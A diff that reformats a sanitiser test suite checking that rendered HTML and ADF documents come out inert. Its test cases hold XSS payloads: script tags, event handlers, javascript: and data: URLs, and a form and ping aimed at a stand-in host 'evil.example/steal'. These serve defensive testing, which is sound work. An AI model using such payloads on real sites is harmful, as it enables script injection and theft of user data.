@@ -12,15 +12,67 @@ const options = { siteUrl: SITE };
 
 /** Everything the renderers can produce; anything else in the output is a leak. */
 const OUTPUT_TAGS = new Set([
-  'a', 'p', 'br', 'strong', 'em', 'u', 's', 'ins', 'sub', 'sup', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li',
-  'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'table', 'thead', 'tbody', 'tfoot', 'tr', 'th', 'td', 'hr', 'dl', 'dt', 'dd',
-  'span', 'div', 'details', 'summary', 'time',
+  'a',
+  'p',
+  'br',
+  'strong',
+  'em',
+  'u',
+  's',
+  'ins',
+  'sub',
+  'sup',
+  'code',
+  'pre',
+  'blockquote',
+  'ul',
+  'ol',
+  'li',
+  'h1',
+  'h2',
+  'h3',
+  'h4',
+  'h5',
+  'h6',
+  'table',
+  'thead',
+  'tbody',
+  'tfoot',
+  'tr',
+  'th',
+  'td',
+  'hr',
+  'dl',
+  'dt',
+  'dd',
+  'span',
+  'div',
+  'details',
+  'summary',
+  'time',
 ]);
 /** Attributes the renderers set, by name. */
-const OUTPUT_ATTRS = new Set(['href', 'target', 'rel', 'class', 'colspan', 'rowspan', 'start', 'data-language', 'datetime', 'role', 'aria-label', 'aria-hidden']);
+const OUTPUT_ATTRS = new Set([
+  'href',
+  'target',
+  'rel',
+  'class',
+  'colspan',
+  'rowspan',
+  'start',
+  'data-language',
+  'datetime',
+  'role',
+  'aria-label',
+  'aria-hidden',
+]);
 
 function expectInert(root: HTMLElement): void {
-  expect(root.querySelectorAll('script, iframe, frame, img, image, style, svg, math, object, embed, form, input, button, textarea, select, link, meta, base, template, noscript, video, audio, source').length).toBe(0);
+  expect(
+    root.querySelectorAll(
+      'script, iframe, frame, img, image, style, svg, math, object, embed, form, input, button, textarea, select, link, meta, base, template, noscript, video, audio, source',
+    ).length,
+  ).toBe(0);
   for (const e of allElements(root)) {
     expect(OUTPUT_TAGS.has(e.localName), `<${e.localName}>`).toBe(true);
     for (const a of Array.from(e.attributes)) {
@@ -48,8 +100,10 @@ describe('hostile rendered HTML is inert', () => {
   // reach). Only those notices are kept out of the test output.
   function parse(html: string) {
     const write = process.stderr.write.bind(process.stderr);
-    const quiet = vi.spyOn(process.stderr, 'write').mockImplementation(((chunk: unknown, ...rest: never[]) =>
-      String(chunk).includes('loading is disabled') ? true : write(chunk as string, ...rest)) as typeof process.stderr.write);
+    const quiet = vi
+      .spyOn(process.stderr, 'write')
+      .mockImplementation(((chunk: unknown, ...rest: never[]) =>
+        String(chunk).includes('loading is disabled') ? true : write(chunk as string, ...rest)) as typeof process.stderr.write);
     try {
       return htmlToNodes(html, options);
     } finally {
@@ -78,7 +132,11 @@ describe('hostile rendered HTML is inert', () => {
     ['style element', '<style>body { display: none }</style>ok', 'ok'],
     ['event attributes', '<p onclick="window.__pwned = 1" onmouseover="x" ONFOCUS="y">t</p>', 't'],
     ['style attributes', '<p style="position: fixed; inset: 0">t</p><div style="background: url(javascript:x)">u</div>', 'tu'],
-    ['form', '<form action="https://evil.example/steal"><input name="p" value="v"><button formaction="https://evil.example">Go</button><textarea>x</textarea><select><option>o</option></select></form>ok', 'ok'],
+    [
+      'form',
+      '<form action="https://evil.example/steal"><input name="p" value="v"><button formaction="https://evil.example">Go</button><textarea>x</textarea><select><option>o</option></select></form>ok',
+      'ok',
+    ],
     ['object and embed', '<object data="x.swf"><param name="a" value="b">fallback</object><embed src="x.swf">ok', 'ok'],
     ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">ok', 'ok'],
     ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">ok', 'ok'],
@@ -87,7 +145,11 @@ describe('hostile rendered HTML is inert', () => {
     ['noscript', '<noscript><img src=x onerror="window.__pwned = 1"></noscript>ok', 'ok'],
     ['media', '<video src=x onerror="x"><source src=y>fallback</video><audio src=z></audio>ok', 'ok'],
     ['table background', '<table background="javascript:x"><tr><td background="x" style="color:red">c</td></tr></table>', 'c'],
-    ['link with its own handlers', '<a href="https://ok.example/" onclick="steal()" target="_self" rel="opener" ping="https://evil.example">ok</a>', 'ok'],
+    [
+      'link with its own handlers',
+      '<a href="https://ok.example/" onclick="steal()" target="_self" rel="opener" ping="https://evil.example">ok</a>',
+      'ok',
+    ],
     ['comment trick', '<!--><script>window.__pwned = 1</script>-->ok', null],
     ['unclosed tags', '<p><b><i>open<script>window.__pwned=1', 'open'],
     ['html in an attribute', '<p title="&lt;script&gt;window.__pwned=1&lt;/script&gt;">t</p>', 't'],
@@ -123,7 +185,11 @@ describe('hostile ADF is inert', () => {
     ['data: link mark', doc(p(t('click', [link('data:text/html,<script>alert(1)</script>')]))), 'click'],
     ['vbscript: link mark', doc(p(t('click', [link('vbscript:msgbox(1)')]))), 'click'],
     ['non-string href', doc(p(t('click', [link({ toString: 'javascript:x' })]))), 'click'],
-    ['javascript: inlineCard', doc(p({ type: 'inlineCard', attrs: { url: 'javascript:window.__pwned=1' } })), 'javascript:window.__pwned=1'],
+    [
+      'javascript: inlineCard',
+      doc(p({ type: 'inlineCard', attrs: { url: 'javascript:window.__pwned=1' } })),
+      'javascript:window.__pwned=1',
+    ],
     ['javascript: inlineCard data', doc(p({ type: 'inlineCard', attrs: { data: { url: 'javascript:x' } } })), 'javascript:x'],
     ['data: blockCard', doc({ type: 'blockCard', attrs: { url: 'data:text/html,x' } }), 'data:text/html,x'],
     ['javascript: embedCard', doc({ type: 'embedCard', attrs: { url: 'JAVASCRIPT:x' } }), 'JAVASCRIPT:x'],
@@ -138,9 +204,25 @@ describe('hostile ADF is inert', () => {
     ['HTML in an invalid date', doc(p({ type: 'date', attrs: { timestamp: HTML } })), HTML],
     ['HTML in an extension', doc({ type: 'extension', attrs: { text: HTML } }), HTML],
     ['panel type as markup', doc({ type: 'panel', attrs: { panelType: 'info" onclick="x' }, content: [p(t('x'))] }), 'Panel: x'],
-    ['node types named like elements', doc({ type: 'script', content: [t('a')] }, { type: 'iframe', attrs: { src: 'https://evil.example' }, content: [t('b')] }, { type: 'img', attrs: { src: 'x' } }), 'ab'],
-    ['attributes for handlers', doc({ type: 'paragraph', attrs: { onclick: 'x', style: 'color:red', class: 'evil' }, content: [t('p')] }), 'p'],
-    ['external media', doc({ type: 'mediaSingle', content: [{ type: 'media', attrs: { type: 'external', url: 'https://evil.example/track.png' } }] }), '📎 Attachment'],
+    [
+      'node types named like elements',
+      doc(
+        { type: 'script', content: [t('a')] },
+        { type: 'iframe', attrs: { src: 'https://evil.example' }, content: [t('b')] },
+        { type: 'img', attrs: { src: 'x' } },
+      ),
+      'ab',
+    ],
+    [
+      'attributes for handlers',
+      doc({ type: 'paragraph', attrs: { onclick: 'x', style: 'color:red', class: 'evil' }, content: [t('p')] }),
+      'p',
+    ],
+    [
+      'external media',
+      doc({ type: 'mediaSingle', content: [{ type: 'media', attrs: { type: 'external', url: 'https://evil.example/track.png' } }] }),
+      '📎 Attachment',
+    ],
   ])('%s', async (_name, adf, text) => {
     const root = renderNodes(adfToNodes(adf, options));
     expectInert(root);
